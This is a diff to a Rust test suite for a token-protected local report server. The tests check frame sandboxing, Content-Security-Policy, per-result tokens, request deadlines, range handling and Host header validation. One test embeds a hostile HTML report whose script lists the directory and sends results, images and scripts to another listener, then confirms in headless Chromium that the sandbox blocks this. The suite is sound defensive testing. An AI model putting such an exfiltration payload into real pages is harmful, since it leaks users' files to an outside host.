@@ -26,11 +26,10 @@ impl Served {
         std::fs::write(folder.path().join("first/note.txt"), "beside a result").unwrap();
         let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
         let port = listener.local_addr().unwrap().port();
+        let place = folder.path().canonicalize().unwrap();
         let site = Arc::new(Site {
-            folder: folder.path().canonicalize().unwrap(),
-            token: TOKEN.to_owned(),
-            port,
-            connections: AtomicUsize::new(0),
+            patience: Duration::from_millis(600),
+            ..Site::new(place, TOKEN.to_owned(), port)
         });
         let stopped = Arc::new(AtomicBool::new(false));
         let stop = Arc::clone(&stopped);
@@ -57,6 +56,214 @@ impl Served {
     /// The answer to a path behind the token.
     fn own(&self, path: &str, more: &str) -> String {
         self.get(&format!("/{TOKEN}/{path}"), more)
+    }
+}
+
+impl Served {
+    /// The address of the frame that shows a page.
+    fn framed(&self, path: &str) -> String {
+        let page = self.own(path, "");
+        let source = content(&page).split_once("src=\"").map_or("", |(_, rest)| rest);
+        source.split('"').next().unwrap_or_default().to_owned()
+    }
+}
+
+/// The policy of an answer.
+fn policy(answer: &str) -> &str {
+    answer.lines().find_map(|line| line.strip_prefix("Content-Security-Policy: ")).unwrap_or_default()
+}
+
+#[test]
+fn a_page_of_a_result_is_shown_in_a_frame_that_knows_the_files_of_its_own_result_alone() {
+    let served = Served::new();
+    let page = served.own("first/report.html", "");
+    let frame = served.framed("first/report.html");
+    let token = frame.split('/').nth(1).unwrap();
+    assert!(token.len() == 32 && token != TOKEN && frame == served.framed("first/report.html"), "{frame}");
+    let own = format!("http://127.0.0.1:{}/{token}/", served.port);
+    assert!(policy(&page).contains(&format!("frame-src {own};")), "{page}");
+    assert!(content(&page).contains("sandbox=\"allow-scripts allow-downloads\""), "{page}");
+    let report = served.get(&frame, "");
+    let rules = policy(&report);
+    assert!(
+        rules.contains("sandbox allow-scripts") && rules.contains(&format!("connect-src {own};")),
+        "{rules}"
+    );
+    let scripts = rules.split_once("script-src").unwrap().1.split(';').next().unwrap();
+    assert!(scripts.matches("'sha256-").count() == 2 && !scripts.contains("unsafe"), "{scripts}");
+    // Its own files, and nothing else.
+    assert_eq!(content(&served.get(&format!("/{token}/report_samples.bin"), "")), "0123456789");
+    for path in
+        ["", "deeper/second%20%26%20third/metrics.json", "../first/metrics.json", "first/metrics.json"]
+    {
+        assert_eq!(status(&served.get(&format!("/{token}/{path}"), "")), "404", "{path}");
+    }
+    let other = served.framed("deeper/second%20%26%20third/report.html");
+    assert_ne!(other.split('/').nth(1), Some(token));
+    assert_eq!(status(&served.own("first/nothing.html", "")), "404");
+}
+
+/// What Chromium makes of a page within some seconds: all that is shown of it.
+fn looked_at(browser: &str, address: &str) -> String {
+    let profile = tempfile::tempdir().unwrap();
+    let mut child = std::process::Command::new(browser)
+        .args([
+            "--headless=new",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-dev-shm-usage",
+            "--no-first-run",
+        ])
+        .args(["--timeout=6000", "--dump-dom"])
+        .arg(format!("--user-data-dir={}", profile.path().display()))
+        .arg(address)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let begun = std::time::Instant::now();
+    while child.try_wait().unwrap().is_none() && begun.elapsed() < Duration::from_secs(30) {
+        thread::sleep(PULSE);
+    }
+    let _ = child.kill();
+    String::from_utf8_lossy(&child.wait_with_output().unwrap().stdout).into_owned()
+}
+
+/// What was asked of a listener that nobody answers for.
+fn asked(listener: &TcpListener) -> Vec<String> {
+    listener.set_nonblocking(true).unwrap();
+    let mut all = Vec::new();
+    while let Ok((mut connection, _)) = listener.accept() {
+        connection.set_nonblocking(false).unwrap();
+        connection.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
+        let mut bytes = [0; 200];
+        let count = connection.read(&mut bytes).unwrap_or(0);
+        // A browser may open a connection in advance to an address that stands in a page; nothing is sent over it.
+        let first = String::from_utf8_lossy(&bytes[..count]).lines().next().unwrap_or_default().to_owned();
+        all.extend(Some(first).filter(|line| !line.is_empty()));
+    }
+    all
+}
+
+/// A result that somebody sent, whose page reads what it finds and sends it away.
+#[test]
+fn a_hostile_report_reads_no_other_result_and_sends_nothing_away_in_chromium() {
+    let browsers = ["chromium", "chromium-browser", "google-chrome"];
+    let is_there = |browser: &&&str| std::process::Command::new(browser).arg("--version").output().is_ok();
+    let Some(browser) = browsers.iter().find(is_there) else {
+        eprintln!("SKIPPED: there is no Chromium here");
+        return;
+    };
+    let served = Served::new();
+    let away = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+    let other = away.local_addr().unwrap();
+    let hostile = format!(
+        "<!doctype html><title>report</title><p id=said>A colleague's result</p>\
+         <script>document.getElementById('said').textContent = 'hostile script ran';\
+         fetch('/' + location.pathname.split('/')[1] + '/').then(r => r.text()).then(t => fetch('http://{other}/list?' + t.length));\
+         fetch('http://{other}/fetched');</script>\
+         <meta http-equiv=refresh content=\"1; url=http://{other}/refreshed\"><img src=\"http://{other}/image\">\
+         <link rel=stylesheet href=\"http://{other}/style\"><iframe src=\"http://{other}/frame\"></iframe>\
+         <script src=\"http://{other}/script\"></script>"
+    );
+    let hold = |name: &str, html: &str| {
+        let work = Work::named("estimate", "a.toml");
+        let output = Output::begin(&served.folder.path().join(name), &work).unwrap();
+        output.write("report.html", |w| w.write_all(html.as_bytes())).unwrap();
+        output.commit().unwrap();
+    };
+    hold("received", &hostile);
+    let at = |path: &str| format!("http://127.0.0.1:{}{path}", served.port);
+    let shown = looked_at(browser, &at(&format!("/{TOKEN}/received/report.html")));
+    assert!(shown.contains("<iframe"), "{shown}");
+    let alone = looked_at(browser, &at(&served.framed("received/report.html")));
+    assert!(!alone.contains("A colleague"), "{alone}");
+    assert_eq!(asked(&away), Vec::<String>::new());
+
+    // The same page elsewhere does all of it.
+    let elsewhere = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+    let place = elsewhere.local_addr().unwrap();
+    thread::spawn(move || {
+        for connection in elsewhere.incoming().flatten() {
+            let mut connection = connection;
+            let _ = connection.read(&mut [0; 4096]);
+            let head =
+                format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}", hostile.len());
+            let _ = connection.write_all(format!("{head}\r\nConnection: close\r\n\r\n{hostile}").as_bytes());
+        }
+    });
+    looked_at(browser, &format!("http://{place}/"));
+    let all = asked(&away).join(" ");
+    assert!(["/image", "/fetched"].iter().all(|what| all.contains(what)), "{all}");
+}
+
+#[test]
+fn a_time_that_no_run_began_at_does_not_hold_the_listing() {
+    let served = Served::new();
+    let output =
+        Output::begin(&served.folder.path().join("late"), &Work::named("estimate", "a.toml")).unwrap();
+    let record = b"[timing]\nstarted_unix_s = 9223372036854775000\n";
+    output.write("run.toml", |w| w.write_all(record)).unwrap();
+    output.commit().unwrap();
+    let (done, listed) = channel();
+    thread::spawn(move || done.send(served.own("", "")).unwrap());
+    let listing = listed.recv_timeout(Duration::from_secs(5)).expect("the listing comes");
+    assert!(listing.contains("3 results"), "{listing}");
+}
+
+#[test]
+fn a_request_that_drips_is_ended_by_one_deadline() {
+    let served = Served::new();
+    let mut connection = TcpStream::connect((Ipv4Addr::LOCALHOST, served.port)).unwrap();
+    let begun = std::time::Instant::now();
+    // Each piece comes long before the deadline of a piece would be over.
+    while connection.write_all(b"G").is_ok() && begun.elapsed() < Duration::from_secs(10) {
+        thread::sleep(Duration::from_millis(100));
+    }
+    assert!(begun.elapsed() < Duration::from_secs(5), "{:?}", begun.elapsed());
+    assert_eq!(status(&served.own("", "")), "200");
+}
+
+#[cfg(unix)]
+#[test]
+fn a_pipe_among_the_files_of_a_result_is_not_opened() {
+    let served = Served::new();
+    let place = served.folder.path().join("first/report_samples.bin");
+    std::fs::remove_file(&place).unwrap();
+    assert!(std::process::Command::new("mkfifo").arg(&place).status().unwrap().success());
+    let (done, answered) = channel();
+    thread::spawn(move || done.send(served.own("first/report_samples.bin", "")).unwrap());
+    assert_eq!(status(&answered.recv_timeout(Duration::from_secs(5)).expect("an answer comes")), "404");
+}
+
+#[test]
+fn a_range_of_an_empty_file_is_refused() {
+    let served = Served::new();
+    std::fs::write(served.folder.path().join("first/report_samples.bin"), "").unwrap();
+    for range in ["bytes=-5", "bytes=0-", "bytes=0-4"] {
+        let answer = served.own("first/report_samples.bin", &format!("Range: {range}\r\n"));
+        assert_eq!(status(&answer), "416", "{range}");
+    }
+    assert_eq!(content(&served.own("first/report_samples.bin", "")), "");
+}
+
+#[test]
+fn the_port_of_the_scheme_is_left_out_of_the_host() {
+    let folder = tempfile::tempdir().unwrap();
+    let host_at = |port: u16, host: &str| {
+        let site = Site::new(folder.path().to_owned(), TOKEN.to_owned(), port);
+        let text = format!("GET /{TOKEN}/ HTTP/1.1\r\nHost: {host}\r\n\r\n");
+        let mut answer = Vec::new();
+        answer_to(&Request::read(text.as_bytes()).unwrap(), &site).send(&mut answer, true).unwrap();
+        status(&String::from_utf8(answer).unwrap()).to_owned()
+    };
+    for (port, host, expected) in [
+        (80, "localhost", "200"),
+        (80, "127.0.0.1:80", "200"),
+        (8080, "localhost", "421"),
+        (80, "evil.example", "421"),
+    ] {
+        assert_eq!(host_at(port, host), expected, "{port} {host}");
     }
 }
 
@@ -101,13 +308,15 @@ fn results_are_listed_with_verdicts_and_their_files_are_served() {
     ] {
         assert!(listing.contains(expected), "{expected}: {listing}");
     }
-    let report = served.own("deeper/second%20%26%20third/report.html", "");
+    let report = served.get(&served.framed("deeper/second%20%26%20third/report.html"), "");
     assert_eq!((status(&report), content(&report)), ("200", "<h1>report</h1>"));
     assert!(report.contains("Content-Type: text/html; charset=utf-8\r\nContent-Length: 15\r\n"));
     assert_eq!(content(&served.own("first/figures/motion.svg", "")), "<svg/>");
-    let head = served
-        .raw(&format!("HEAD /{TOKEN}/first/report.html HTTP/1.1\r\nHost: localhost:{}\r\n\r\n", served.port));
-    assert!(head.contains("Content-Length: 15\r\n") && content(&head).is_empty(), "{head}");
+    let head = served.raw(&format!(
+        "HEAD /{TOKEN}/first/metrics.json HTTP/1.1\r\nHost: localhost:{}\r\n\r\n",
+        served.port
+    ));
+    assert!(head.contains("Content-Length: 82\r\n") && content(&head).is_empty(), "{head}");
 }
 
 #[test]
